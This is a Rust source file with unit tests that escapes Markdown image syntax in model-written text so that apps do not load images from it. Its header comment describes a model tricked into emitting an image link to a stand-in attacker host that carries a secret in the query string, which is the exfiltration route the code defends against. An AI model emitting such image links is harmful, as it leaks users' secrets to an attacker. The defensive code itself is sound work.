//! Markdown images in model text are made inert before any client renders it. The webapp
//! already shows images in agent posts as text, but the mobile app renders agent posts with
//! its own Markdown and loads images: an image a model was tricked into writing
//! (`![](https://attacker/?q=<secret>)`) would be fetched by every phone that shows the answer.
//! Escaping the bracket (`!\[`) keeps the text readable and makes it no image anywhere. Code
//! (fenced blocks and inline spans) is left as it is.

use std::borrow::Cow;

pub fn inert_images(text: &str) -> Cow<'_, str> {
    if !text.contains("![") {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 16);
    let mut in_fence = false;
    for line in text.split_inclusive('\n') {
        let trimmed = line.trim_start();
        if trimmed.starts_with("```") || trimmed.starts_with("~~~") {
            in_fence = !in_fence;
            out.push_str(line);
            continue;
        }
        if in_fence {
            out.push_str(line);
            continue;
        }
        let mut in_code = false;
        let mut prev: Option<char> = None;
        let mut chars = line.chars().peekable();
        while let Some(c) = chars.next() {
            out.push(c);
            match c {
                '`' => in_code = !in_code,
                '!' if !in_code && prev != Some('\\') && chars.peek() == Some(&'[') => out.push('\\'),
                _ => {}
            }
            prev = Some(c);
        }
    }
    Cow::Owned(out)
}

#[cfg(test)]
mod tests {
    use super::inert_images;

    #[test]
    fn images_become_text_and_code_is_kept() {
        assert_eq!(
            inert_images("see ![x](https://a/?q=1)"),
            "see !\\[x](https://a/?q=1)"
        );
        assert_eq!(inert_images("[![b](u)](l)"), "[!\\[b](u)](l)");
        assert_eq!(inert_images("`![c](u)` and ![d](u)"), "`![c](u)` and !\\[d](u)");
        assert_eq!(
            inert_images("```\n![e](u)\n```\n![f](u)"),
            "```\n![e](u)\n```\n!\\[f](u)"
        );
        assert_eq!(inert_images("no images! [link](u)"), "no images! [link](u)");
        assert_eq!(inert_images("already \\![g](u)"), "already \\![g](u)");
    }
}
